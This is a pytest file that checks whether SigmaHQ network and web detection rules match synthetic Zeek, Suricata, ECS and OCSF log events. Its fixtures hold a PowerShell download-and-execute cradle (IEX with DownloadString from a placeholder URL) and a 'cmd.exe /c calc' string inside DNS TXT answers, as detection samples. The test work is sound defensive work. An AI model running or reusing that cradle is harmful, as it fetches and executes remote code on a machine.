"""Sigma logsources beyond Windows: Zeek, Suricata EVE, ECS and OCSF events, real SigmaHQ rules, near misses."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sigma.rule import SigmaRule

from tests.conftest import shared_dataset
from tests.support.ingesting import ingest_into
from tunnelhunt.sigma.compiler import SigmaCompileError, default_compiler
from tunnelhunt.sigma.rules import load_content
from tunnelhunt.sigma.scan import run_sigma
from tunnelhunt.store.duckdb_store import Store

pytestmark = pytest.mark.shared  # SigmaHQ's rules

ZEEK_HEADER = (
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t{path}\n#fields\t{fields}\n"
)
#: Every Zeek log starts with the connection's identity.
ZEEK_ID = ("ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p")
DNS_FIELDS = (*ZEEK_ID, "proto", "query", "qtype_name", "answers", "rejected")
HTTP_FIELDS = (*ZEEK_ID, "method", "host", "uri", "user_agent", "status_code", "resp_mime_types")
CONN_FIELDS = (*ZEEK_ID, "proto", "service")
TIME = "2023-11-14T22:13:20.000000+0000"


def zeek_tsv(path: Path, log: str, fields: tuple[str, ...], rows: list[tuple[str, ...]]) -> Path:
    lines = [ZEEK_HEADER.format(path=log, fields="\t".join(fields))]
    lines += ["\t".join((f"1700000000.{i:06d}", f"C{i}", *row)) + "\n" for i, row in enumerate(rows, 1)]
    path.write_text("".join(lines))
    return path


def json_lines(path: Path, records: list[dict[str, object]]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    return path


def rule(path: str) -> SigmaRule:
    return SigmaRule.from_yaml(shared_dataset(f"sigma/rules/{path}").read_text())


def custom(logsource: str, detection: str, title: str = "custom") -> SigmaRule:
    return SigmaRule.from_yaml(f"title: {title}\nlogsource: {logsource}\ndetection:\n{detection}")


def hits(store: Store, sigma_rule: SigmaRule) -> list[tuple[str, int]]:
    (run,) = run_sigma(store, [sigma_rule])
    assert run.error is None, run.error
    assert run.findings is not None
    return sorted((Path(r["_source"]).name, r["_offset"]) for r in run.findings.to_pylist())


def eve(event_type: str, offset: int, **body: object) -> dict[str, object]:
    base: dict[str, object] = {
        "timestamp": TIME,
        "event_type": event_type,
        "src_ip": "10.0.0.5",
        "src_port": 40000 + offset,
        "dest_ip": "10.0.0.1",
        "dest_port": 53,
        "proto": "UDP",
    }
    return {**base, **body}


def ocsf(class_uid: int, **body: object) -> dict[str, object]:
    return {
        "class_uid": class_uid,
        "category_uid": 4,
        "activity_id": 1,
        "time": 1700000000000,
        "device": {"hostname": "ws1"},
        **body,
    }


def ecs(**body: object) -> dict[str, object]:
    return {"@timestamp": "2023-11-14T22:13:20.000Z", "host": {"name": "ws1"}, **body}


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    """One event of each kind per format, each rule's hit beside its near misses."""
    d = tmp_path_factory.mktemp("logs")
    iex = "IEX(New-Object Net.WebClient).DownloadString('http://x')"
    zeek_tsv(
        d / "dns.log",
        "dns",
        DNS_FIELDS,
        [
            ("10.0.0.5", "5000", "10.0.0.1", "53", "udp", "t.example", "TXT", iex, "F"),  # 1 TXT exec string: hit
            ("10.0.0.5", "5001", "10.0.0.1", "53", "udp", "a.example", "A", iex, "F"),  # 2 not TXT
            ("10.0.0.5", "5002", "10.0.0.1", "53", "udp", "t.example", "TXT", "v=spf1 -all", "F"),  # 3 benign TXT
            (
                "10.0.0.5",
                "5003",
                "10.0.0.1",
                "53",
                "udp",
                "pool.xmrpool.com",
                "A",
                "1.2.3.4,127.0.0.1",
                "F",
            ),  # 4 sinkholed
            (
                "10.0.0.5",
                "5004",
                "10.0.0.1",
                "53",
                "udp",
                "pool.xmrpool.com",
                "A",
                "1.2.3.4,127.0.0.10",
                "F",
            ),  # 5 mining
            ("10.0.0.5", "5005", "10.0.0.1", "53", "udp", "pool.xmrpool.com", "A", "-", "T"),  # 6 rejected
        ],
    )
    zeek_tsv(
        d / "http.log",
        "http",
        HTTP_FIELDS,
        [
            ("10.0.0.5", "5010", "93.184.216.34", "80", "GET", "a.example", "/", "Netscape", "200", "text/html"),  # hit
            (
                "10.0.0.5",
                "5011",
                "93.184.216.34",
                "80",
                "GET",
                "b.example.org",
                "/",
                "Netscape Navigator",
                "200",
                "text/html",
            ),
        ],
    )
    zeek_tsv(
        d / "conn.log",
        "conn",
        CONN_FIELDS,
        [
            ("10.0.0.5", "5020", "93.184.216.34", "3389", "tcp", "rdp"),  # RDP out: hit
            ("10.0.0.5", "5021", "93.184.216.34", "33890", "tcp", "-"),
        ],
    )
    json_lines(
        d / "zeek.json",
        [
            {
                "_path": "dns",
                "ts": "2023-11-14T22:13:20Z",
                "uid": "J1",
                "id.orig_h": "10.0.0.5",
                "id.orig_p": 5100,
                "id.resp_h": "10.0.0.1",
                "id.resp_p": 53,
                "query": "pool.xmrpool.com",
                "qtype_name": "A",
                "answers": ["1.2.3.4", "0.0.0.0"],
                "rejected": False,
            },  # 1 sinkholed (any element)
            {
                "_path": "dns",
                "ts": "2023-11-14T22:13:20Z",
                "uid": "J2",
                "id.orig_h": "10.0.0.5",
                "id.orig_p": 5101,
                "id.resp_h": "10.0.0.1",
                "id.resp_p": 53,
                "query": "pool.xmrpool.com",
                "qtype_name": "TXT",
                "answers": ["x", iex],
                "rejected": False,
            },  # 2 mining, and a TXT exec string in its second answer
        ],
    )
    json_lines(
        d / "eve.json",
        [
            eve(
                "dns",
                1,
                dns={
                    "version": 2,
                    "type": "answer",
                    "id": 1,
                    "rrname": "t.example",
                    "rrtype": "TXT",
                    "answers": [{"rrname": "t.example", "rrtype": "TXT", "rdata": iex}],
                },
            ),  # 1 hit (v2)
            eve(
                "dns",
                2,
                dns={
                    "version": 3,
                    "type": "response",
                    "id": 2,
                    "queries": [{"rrname": "t.example", "rrtype": "TXT"}],
                    "answers": [{"rrname": "t.example", "rrtype": "TXT", "rdata": "cmd.exe /c calc"}],
                },
            ),  # 2 v3
            eve(
                "dns",
                3,
                dns={
                    "version": 2,
                    "type": "answer",
                    "id": 3,
                    "rrname": "t.example",
                    "rrtype": "A",
                    "answers": [{"rrname": "t.example", "rrtype": "A", "rdata": "1.2.3.4"}],
                },
            ),  # 3 miss
            eve("http", 4, dest_port=80, proto="TCP", http={"url": "/", "http_user_agent": "Netscape"}),
            eve("http", 5, dest_port=80, proto="TCP", http={"url": "/", "http_user_agent": "Netscape 4"}),
            eve("flow", 6, dest_port=3389, proto="TCP", flow={"state": "established"}),  # 6 RDP out
            eve("alert", 7, dest_port=3389, proto="TCP", alert={"signature": "x"}),  # 7 not a flow record
        ],
    )
    json_lines(
        d / "ecs.json",
        [
            ecs(
                dns={"question": {"name": "t.example", "type": "TXT"}, "answers": [{"data": iex}]},
                destination={"ip": "10.0.0.1", "port": 53},
            ),  # 1 hit
            ecs(
                dns={"question": {"name": "t.example", "type": "TXT"}, "answers": [{"data": "ok"}]},
                destination={"ip": "10.0.0.1", "port": 53},
            ),  # 2 miss
            ecs(
                url={"original": "http://a.example/", "domain": "a.example"},
                user_agent={"original": "Netscape"},
                destination={"ip": "93.184.216.34", "port": 80},
            ),  # 3 proxy hit
            ecs(destination={"ip": "93.184.216.34", "port": 3389}, network={"transport": "tcp"}),  # 4 RDP out
        ],
    )
    json_lines(
        d / "ocsf.json",
        [
            ocsf(4003, query={"hostname": "t.example", "type": "TXT"}, answers=[{"rdata": iex}]),  # 1 hit
            ocsf(4003, query={"hostname": "t.example", "type": "A"}, answers=[{"rdata": iex}]),  # 2 not TXT
            ocsf(4002, http_request={"user_agent": "Netscape", "url": {"url_string": "http://a.example/"}}),  # 3 hit
            ocsf(4001, dst_endpoint={"ip": "93.184.216.34", "port": 3389}),  # 4 RDP out
            ocsf(1007, process={"cmd_line": "IEX"}, dst_endpoint={"port": 3389}),  # 5 a process event: not network
        ],
    )
    found = Store()
    ingest_into(found, *sorted(d.iterdir()))
    return found


def test_generic_dns_rule_finds_txt_exec_strings_in_every_format(store: Store) -> None:
    found = hits(store, rule("network/dns/net_dns_susp_txt_exec_strings.yml"))
    assert found == [
        ("dns.log", 7),  # Zeek TSV; its A record with the same answer and the benign TXT are not
        ("ecs.json", 1),
        ("eve.json", 1),  # Suricata EVE v2 `answers[]`
        ("eve.json", 2),  # and v3 `queries[]`; the A record is not
        ("ocsf.json", 1),
        ("zeek.json", 2),  # Zeek JSON: the exec string is its second answer
    ]


def test_zeek_sets_match_when_any_element_matches(store: Store) -> None:
    # exclude_answers holds `answers: 127.0.0.1 / 0.0.0.0`, an exact match: an element, not a substring;
    # exclude_rejected's `rejected: 'true'` is Zeek TSV's `T`
    found = hits(store, rule("network/zeek/zeek_dns_mining_pools.yml"))
    assert found == [("dns.log", 11), ("zeek.json", 2)]  # not the sinkholed (10, json 1), not the rejected (12)


@pytest.mark.parametrize("values", [["'.3.4'"], ["'.3.4'", "'.n1'", "'.n2'", "'.n3'"]], ids=["one", "regex list"])
def test_a_list_field_matches_an_element_that_is_not_the_last(store: Store, values: list[str]) -> None:
    """`1.2.3.4,127.0.0.10` ends with `.10`, not `.3.4`: only an element-wise comparison finds `.3.4`, whether
    the values are compared one by one or (four and more) as one regular expression."""
    detection = f"  s:\n    answer|endswith: [{', '.join(values)}]\n  condition: s\n"
    found = hits(store, custom("{category: dns}", detection))
    assert ("dns.log", 11) in found and ("zeek.json", 1) in found


def test_proxy_rule_runs_over_zeek_suricata_ecs_and_ocsf_http(store: Store) -> None:
    # `c-useragent: Netscape` is an exact match: `Netscape Navigator` and `Netscape 4` are near misses
    found = hits(store, rule("web/proxy_generic/proxy_ua_apt.yml"))
    assert found == [("ecs.json", 3), ("eve.json", 4), ("http.log", 7), ("ocsf.json", 3)]


def test_network_connection_and_firewall_rules_read_connections(store: Store) -> None:
    detection = "  selection:\n    {field}: 3389\n  condition: selection\n"
    expected = [("conn.log", 7), ("ecs.json", 4), ("eve.json", 6), ("ocsf.json", 4)]
    assert hits(store, custom("{category: firewall}", detection.format(field="dst_port"))) == expected
    assert hits(store, custom("{category: network_connection}", detection.format(field="DestinationPort"))) == expected
    # a Windows network_connection rule is Sysmon's event 3, never a Zeek or EVE connection
    windows = custom("{category: network_connection, product: windows}", detection.format(field="DestinationPort"))
    assert hits(store, windows) == []


def test_product_zeek_rules_select_their_service_log(store: Store) -> None:
    detection = "  selection:\n    id.resp_p: 3389\n  condition: selection\n"
    assert hits(store, custom("{product: zeek, service: conn}", detection)) == [("conn.log", 7)]
    assert hits(store, custom("{product: zeek, service: rdp}", detection)) == []  # no rdp.log ingested


def test_a_field_a_source_lacks_is_refused_there_and_runs_elsewhere(store: Store) -> None:
    compiler = default_compiler()
    cookie = custom("{category: proxy}", "  selection:\n    c-uri-query|contains: 'x=1'\n  condition: selection\n")
    assert sorted(name for name, _ in compiler.mapped(cookie)) == ["ecs", "ocsf"]
    nowhere = custom("{category: proxy}", "  selection:\n    cs-cookie: 'a'\n  condition: selection\n")
    with pytest.raises(SigmaCompileError, match="zeek http.log has no field cs-cookie"):
        compiler.mapped(nowhere)
    with pytest.raises(SigmaCompileError, match="Zeek has no field _raw"):
        compiler.mapped(custom("{product: zeek, service: http}", "  s:\n    _raw: 'a'\n  condition: s\n"))


def test_zeeks_http_host_header_is_its_own_field_not_the_events_host(store: Store) -> None:
    """http.log's `host` (the Host header) is stored as `extracted_host`; the events' host stays the sensor."""
    own = custom("{product: zeek, service: http}", "  s:\n    host: 'a.example'\n  condition: s\n")
    assert hits(store, own) == [("http.log", 7)]
    proxy = custom("{category: proxy}", "  s:\n    cs-host|endswith: '.example.org'\n  condition: s\n")
    assert ("http.log", 8) in hits(store, proxy) and ("http.log", 7) not in hits(store, proxy)
    rows = store.query("SELECT host, fields['extracted_host'] AS header FROM events WHERE _offset = 8 AND "
                       "_source LIKE '%http.log'").to_pylist()  # fmt: skip
    assert [row["header"] for row in rows] == ["b.example.org"] and rows[0]["host"] != "b.example.org"


def test_multivalue_comparison_renders_for_spark() -> None:
    compiled = default_compiler().compile(rule("network/zeek/zeek_dns_mining_pools.yml"))
    spark = compiled.sql("spark")
    assert "SIZE(FILTER(SPLIT(`fields`['answers'], CONCAT('\\\\Q', ',', '\\\\E')), sigma_element ->" in spark


def test_every_sigmahq_network_and_web_rule_that_converts_runs_over_every_format(store: Store) -> None:
    content = load_content([shared_dataset("sigma/rules/network"), shared_dataset("sigma/rules/web")])
    runs = run_sigma(store, content.rules)
    converted = [run for run in runs if not (run.error or "").startswith("does not compile")]
    assert [run.error for run in converted if run.error] == []  # converted, so it binds and runs on DuckDB
    assert len(converted) >= 68  # 27 network + 41 web when measured (docs/sigma.md)
    refused = {run.error for run in runs if run.error}
    assert all("maps to no events" in e or "has no field" in e for e in refused), refused
